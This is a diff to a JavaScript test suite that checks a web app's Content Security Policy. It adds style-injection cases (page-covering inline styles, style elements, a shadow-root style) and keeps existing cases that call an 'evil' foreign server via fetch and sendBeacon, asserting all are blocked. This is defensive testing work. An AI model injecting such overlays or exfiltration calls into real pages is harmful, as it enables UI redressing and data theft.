@@ -163,6 +163,40 @@ const planted = [
       );
     },
   ],
+  [
+    'an inline style',
+    'style-src-attr',
+    () => {
+      document.body.insertAdjacentHTML('beforeend', '<p style="position: fixed; inset: 0; z-index: 9">Planted</p>');
+    },
+  ],
+  [
+    'a set style',
+    'style-src-attr',
+    () => {
+      const cover = document.body.appendChild(document.createElement('p'));
+      cover.setAttribute('style', 'position: fixed; inset: 0; z-index: 9');
+    },
+  ],
+  [
+    'a style element',
+    'style-src-elem',
+    () => {
+      document.head.insertAdjacentHTML(
+        'beforeend',
+        '<style>strata-app, body > p { position: fixed; inset: 0 }</style>',
+      );
+    },
+  ],
+  [
+    'a style element in a shadow root',
+    'style-src-elem',
+    () => {
+      const style = document.createElement('style');
+      style.textContent = ':host { position: fixed; inset: 0 }';
+      document.querySelector('strata-app').shadowRoot.append(style);
+    },
+  ],
   ['a question to another server', 'connect-src', (evil) => void fetch(`${evil}/fetch`).catch(() => undefined)],
   ['news to another server', 'connect-src', (evil) => void navigator.sendBeacon(`${evil}/beacon`, 'x')],
   [
@@ -178,6 +212,12 @@ const planted = [
   ],
 ];
 
+/** In the page: what stands elsewhere than any of our styles has it, over all else. */
+const placed = () =>
+  [...document.querySelectorAll('strata-app, body > p')]
+    .filter((element) => getComputedStyle(element).position === 'fixed')
+    .map((element) => element.outerHTML);
+
 attack('policy of the page', 'what is planted in the page does nothing', async (held) => {
   const evil = `http://localhost:${foreign.port}`;
   const person = await someone(victim, '/', { allow: [''] });
@@ -191,6 +231,7 @@ attack('policy of the page', 'what is planted in the page does nothing', async (
       (expected) => window.violations.some((each) => each.startsWith(`${expected} `)),
       directive,
     );
+    assert.deepEqual(await person.page.evaluate(placed), [], what);
     held(assert.equal(await person.page.evaluate(() => window.broken ?? null), null, what));
   }
   assert.deepEqual(foreign.asked, []);
